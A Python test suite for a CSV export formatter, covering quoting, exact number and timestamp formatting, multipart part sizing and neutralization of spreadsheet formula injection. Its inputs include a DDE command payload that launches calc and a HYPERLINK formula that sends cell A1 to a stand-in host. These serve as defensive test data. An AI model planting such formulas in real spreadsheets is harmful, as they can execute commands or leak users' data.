"""The export CSV formats: RFC 4180 as Python's csv reader reads it, exact numbers, CSV-injection neutralization,
and parts sized for S3 multipart."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from exports.csv_format import (
    COST,
    COST_HEADER,
    INCIDENT,
    INCIDENT_HEADER,
    Kind,
    PartEncoder,
    encode,
    encode_parts,
    format_decimal,
    format_float,
    format_timestamp,
    line,
    neutralize,
)

FORMULA_STARTS = set("=+-@\t\r")
ODD = "\x00\ud800\udfff\r\n\"',=+-@\t é😀\u2028"  # one code point each
odd_text = st.text(alphabet=st.one_of(st.characters(), st.sampled_from(list(ODD))), max_size=30)
UTC = dt.UTC
exact_amounts = st.decimals(min_value=0, allow_nan=False, allow_infinity=False, places=40) | st.decimals(
    min_value=0, max_value=10**40, allow_nan=False, allow_infinity=False
)


def read_back(data: bytes) -> list[list[str]]:
    """The file as a spreadsheet import or a finance script reads it: strict UTF-8, Python's csv reader."""
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def expected_text(value: str) -> str:
    """The rule, written out independently: unstorable code points become U+FFFD, then a formula start gets "'"."""
    cleaned = "".join("\ufffd" if c == "\x00" or "\ud800" <= c <= "\udfff" else c for c in value)
    return "'" + cleaned if cleaned[:1] in FORMULA_STARTS else cleaned


def incident_row(**texts: str | None) -> tuple[Any, ...]:
    values: dict[str, Any] = {
        "time": dt.datetime(2026, 11, 3, 14, 5, 9, 120, tzinfo=UTC),
        "event_id": "evt-1",
        "source": "api",
        "org_id": "org_a",
        "project_id": "proj_1",
        "api_key_id": "key_1",
        "model": "gpt-4o",
        "status_code": 500,
        "error_type": "timeout",
        "latency_ms": 123.5,
        "ttft_ms": None,
        "input_tokens": 1200,
        "cached_input_tokens": 100,
        "output_tokens": 300,
        "region": "eu-west-1",
    }
    values.update(texts)
    return tuple(values[name] for name in INCIDENT.header)


def test_headers_are_the_contract_s() -> None:
    assert COST_HEADER == (
        "org_id,project_id,model,day,requests,input_tokens,cached_input_tokens,output_tokens,spend_usd"
    )
    assert INCIDENT_HEADER == (
        "time,event_id,source,org_id,project_id,api_key_id,model,status_code,error_type,latency_ms,ttft_ms,"
        "input_tokens,cached_input_tokens,output_tokens,region"
    )


def test_a_cost_file_byte_for_byte() -> None:
    rows = [
        ("org_a", "proj_1", "gpt-4o", dt.date(2026, 11, 1), 3, 4000, 0, 500, decimal.Decimal("0.012500")),
        ("org_a", None, "unpriced-model", dt.date(2026, 11, 2), 1, 10, 0, 0, None),
    ]
    assert encode(COST, rows) == (
        b"org_id,project_id,model,day,requests,input_tokens,cached_input_tokens,output_tokens,spend_usd\r\n"
        b"org_a,proj_1,gpt-4o,2026-11-01,3,4000,0,500,0.0125\r\n"
        b"org_a,,unpriced-model,2026-11-02,1,10,0,0,\r\n"
    )


def test_an_incident_row_byte_for_byte() -> None:
    data = encode(INCIDENT, [incident_row(error_type='=HYPERLINK("http://x/?"&A1,"ok")', region="a,b\r\nc")])
    assert data.split(b"\r\n", 1)[1] == (
        b"2026-11-03T14:05:09.000120Z,evt-1,api,org_a,proj_1,key_1,gpt-4o,500,"
        b'"\'=HYPERLINK(""http://x/?""&A1,""ok"")",123.5,,1200,100,300,"a,b\r\nc"\r\n'
    )


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),  # already starts with a quote: not a formula, left alone
        ("", ""),
        ("\x00=1", "\ufffd=1"),  # NUL cannot come from PostgreSQL text; replaced, and U+FFFD is no formula
        ("=\x00", "'=\ufffd"),
    ],
)
def test_neutralize(value: str, cell: str) -> None:
    assert neutralize(value) == cell


@given(st.lists(st.tuples(odd_text, odd_text, st.none() | odd_text, odd_text), max_size=5))
def test_any_text_round_trips_to_its_neutralized_value(texts: list[tuple[str, str, str | None, str]]) -> None:
    rows = [incident_row(event_id=a, source=b, error_type=c, region=d) for a, b, c, d in texts]
    data = encode(INCIDENT, rows)
    records = read_back(data)
    assert records[0] == list(INCIDENT.header)
    assert len(records) == len(rows) + 1
    for record, (a, b, c, d) in zip(records[1:], texts, strict=True):
        cells = dict(zip(INCIDENT.header, record, strict=True))
        assert cells["event_id"] == expected_text(a)
        assert cells["source"] == expected_text(b)
        assert cells["error_type"] == ("" if c is None else expected_text(c))
        assert cells["region"] == expected_text(d)
        assert not any(cell[:1] in FORMULA_STARTS for cell in record), record


@given(exact_amounts)
def test_decimals_are_exact_without_exponent_or_trailing_zeros(value: decimal.Decimal) -> None:
    text = format_decimal(value)
    assert decimal.Decimal(text) == value
    assert "E" not in text.upper() and not text.startswith("-")
    assert not ("." in text and (text.endswith("0") or text.endswith(".")))


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("0.00020", "0.0002"),
        ("1E+3", "1000"),
        ("0E-12", "0"),
        ("-0", "0"),
        ("12.5", "12.5"),
        ("123456789012345678901234567890.1234567890123456789", "123456789012345678901234567890.1234567890123456789"),
        # trailing zeros on 50 digits: trimming must not round to the default 28-digit context
        ("123456789012345678901234567890.12345678901234567890", "123456789012345678901234567890.1234567890123456789"),
    ],
)
def test_decimal_examples(value: str, text: str) -> None:
    assert format_decimal(decimal.Decimal(value)) == text


@given(st.floats(min_value=0, allow_nan=False, allow_infinity=False))
def test_floats_are_their_shortest_round_trip_without_exponent(value: float) -> None:
    text = format_float(value)
    assert float(text) == value
    assert "e" not in text.lower() and not text.startswith("-")
    assert not text.endswith(".0")


@pytest.mark.parametrize(
    ("value", "text"), [(1e-05, "0.00001"), (1e16, "10000000000000000"), (12.0, "12"), (0.1, "0.1")]
)
def test_float_examples(value: float, text: str) -> None:
    assert format_float(value) == text


@pytest.mark.parametrize(
    "bad",
    [decimal.Decimal("-0.01"), decimal.Decimal("NaN"), decimal.Decimal("Infinity"), -1.5, float("nan"), float("inf")],
)
def test_negative_and_non_finite_numbers_are_refused(bad: decimal.Decimal | float) -> None:
    with pytest.raises(ValueError, match="finite and non-negative"):
        format_decimal(bad) if isinstance(bad, decimal.Decimal) else format_float(bad)


def test_timestamps_are_utc_with_six_fraction_digits() -> None:
    plus_two = dt.timezone(dt.timedelta(hours=2))
    assert format_timestamp(dt.datetime(2026, 11, 3, 14, 5, 9, tzinfo=UTC)) == "2026-11-03T14:05:09.000000Z"
    assert format_timestamp(dt.datetime(2026, 11, 3, 0, 0, 0, 7, tzinfo=plus_two)) == "2026-11-02T22:00:00.000007Z"
    with pytest.raises(ValueError, match="naive"):
        format_timestamp(dt.datetime(2026, 11, 3))


@given(st.datetimes(timezones=st.just(UTC)), st.datetimes(timezones=st.just(UTC)))
def test_timestamp_text_order_is_time_order(a: dt.datetime, b: dt.datetime) -> None:
    assert (format_timestamp(a) < format_timestamp(b)) == (a < b)
    assert dt.datetime.fromisoformat(format_timestamp(a)) == a


def test_a_date_column_refuses_a_datetime() -> None:
    row = ("org_a", "p", "m", dt.datetime(2026, 11, 1, tzinfo=UTC), 1, 1, 0, 1, decimal.Decimal(1))
    with pytest.raises(ValueError, match="DATE column"):
        encode(COST, [row])


def test_a_row_of_the_wrong_width_is_refused() -> None:
    with pytest.raises(ValueError, match="COST rows have 9 values, got 2"):
        encode(COST, [("org_a", "p")])


def test_every_column_has_a_kind_and_text_columns_are_the_free_text_ones() -> None:
    texts = {column.name for column in INCIDENT.columns if column.kind is Kind.TEXT}
    assert texts == {"event_id", "source", "org_id", "project_id", "api_key_id", "model", "error_type", "region"}
    assert {column.name for column in COST.columns if column.kind is Kind.TEXT} == {"org_id", "project_id", "model"}


def test_parts_are_at_least_the_part_size_cut_at_row_ends_and_join_to_the_file() -> None:
    rows = [incident_row(event_id=f"evt-{n}", region="é" * (n % 7)) for n in range(2_000)]
    parts = list(encode_parts(INCIDENT, rows, part_size=10_000))
    assert len(parts) > 3
    assert all(len(part) >= 10_000 for part in parts[:-1])
    assert all(part.endswith(b"\r\n") for part in parts)
    assert b"".join(parts) == encode(INCIDENT, rows)
    assert len(read_back(b"".join(parts))) == 2_001


def test_no_rows_is_a_header_only_file_and_an_exact_fill_leaves_no_empty_tail() -> None:
    assert list(encode_parts(COST, [])) == [COST_HEADER.encode() + b"\r\n"]
    row = ("o", "p", "m", dt.date(2026, 1, 1), 1, 1, 0, 1, decimal.Decimal(1))
    line = len(encode(COST, [row])) - len(COST_HEADER) - 2
    parts = list(encode_parts(COST, [row, row], part_size=len(COST_HEADER) + 2 + 2 * line))
    assert len(parts) == 1 and parts[0] == encode(COST, [row, row])


def test_the_encoder_counts_rows_and_refuses_rows_after_finish() -> None:
    encoder = PartEncoder(COST)
    row = ("o", "p", "m", dt.date(2026, 1, 1), 1, 1, 0, 1, decimal.Decimal(1))
    assert encoder.add(row) is None and encoder.add(row) is None
    assert encoder.rows == 2
    encoder.finish()
    with pytest.raises(RuntimeError):
        encoder.add(row)


def test_one_line_is_the_files_line_for_that_row() -> None:
    rows = [incident_row(event_id=f'=evt,{n}"') for n in range(3)]
    lines = encode(INCIDENT, rows).decode().split("\r\n")[1:-1]
    assert [line(INCIDENT, row) for row in rows] == [text + "\r\n" for text in lines]
